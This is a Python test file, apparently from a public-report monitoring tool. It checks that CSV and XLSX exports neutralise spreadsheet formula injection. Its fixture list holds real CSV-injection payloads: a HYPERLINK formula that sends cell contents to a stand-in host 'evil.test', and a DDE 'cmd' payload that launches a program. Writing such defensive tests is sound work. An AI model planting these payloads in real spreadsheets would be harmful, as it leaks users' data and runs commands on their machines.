"""No export hands a spreadsheet a formula that a crawled site wrote (issue 16, item 4).

Every CSV and XLSX the product writes: the audit list (``audit -o``, the dashboard's
download), the digest's attachment, the dataset (``export``) and the roster sheet
(``registry export``).  A CSV cell beginning with ``= + - @``, a tab or a carriage return
is neutralised with a leading apostrophe; an XLSX cell is never of the formula type.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from db.spreadsheet import FORMULA_STARTS

HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def _audit_rows() -> list[dict[str, Any]]:
    rows = []
    for i, evil in enumerate(HOSTILE):
        rows.append({"agency": f"evil-{i}", "name": evil, "kind": "department", "region": None, "parent": None,
                     "year": 2024, "status": "missing", "deadline": "2025-01-31", "published": None, "source": evil,
                     "days_late": None, "link": None,
                     "evidence": {"crawled": "2025-03-01T00:00:00", "run": 1, "pages": 3, "proof": evil, "rule": evil},
                     "content": [{"code": evil, "severity": "error", "message": evil}]})
    return rows


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _assert_csv_safe(data: bytes) -> None:
    cells = _csv_cells(data)
    risky = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not risky, risky
    assert any(c == "'" + HOSTILE[0] for c in cells)  # kept, as text


def _assert_xlsx_safe(data: bytes, expect: str = HOSTILE[0]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert expect in values  # the text itself survives, as a string cell


def test_audit_csv_neutralises_formula_cells() -> None:
    from monitor import audit

    _assert_csv_safe(audit.to_csv(_audit_rows()))


def test_audit_xlsx_has_no_formula_cells() -> None:
    from monitor import audit

    _assert_xlsx_safe(audit.to_xlsx(_audit_rows(), title="督查清单"))


def test_the_digest_attachment_neutralises_formula_cells() -> None:
    from monitor.digest import build_message

    data = {"since": "2025-01-01", "as_of": "2025-03-03", "period": "2025-W10", "scope": "全部机关", "agencies": 6,
            "audit_year": 2024, "time_note": "", "groups": [], "new_reports": [], "newly_late_or_missing": [],
            "new_findings": {"error": [], "warning": [], "info": []}, "resolved": [], "upcoming": [],
            "audit_counts": {"missing": 6}, "audit_rows": _audit_rows(), "changed": False}
    msg = build_message(data, "nianbao@monitor.test", "gkb@x.gov.cn.test")
    [attachment] = list(msg.iter_attachments())
    _assert_csv_safe(attachment.get_payload(decode=True))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_dataset_neutralises_formula_cells(fmt: str, tmp_path: Path) -> None:
    from monitor.dataset import COLUMNS, write

    tables = {}
    for name, cols in COLUMNS.items():
        tables[name] = [{c: (HOSTILE[i] if typ == "string" else None) for c, (typ, _) in cols.items()}
                        for i in range(len(HOSTILE))]
    for path in write(tables, tmp_path, fmt):
        if path.suffix == ".csv":
            cells = _csv_cells(path.read_bytes())
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path.name
        elif path.suffix == ".xlsx":
            _assert_xlsx_safe(path.read_bytes())


def test_the_roster_sheet_has_no_formula_cells() -> None:
    from db.registry import parse_registry
    from db.roster_export import export_rows, to_xlsx

    registry = parse_registry('agencies:\n  - {id: evil, name: "=HYPERLINK(\\"http://evil.test/\\",\\"x\\")", '
                              'kind: department, site: "http://evil.gov.cn/"}\n')
    _assert_xlsx_safe(to_xlsx(export_rows(None, registry)), '=HYPERLINK("http://evil.test/","x")')
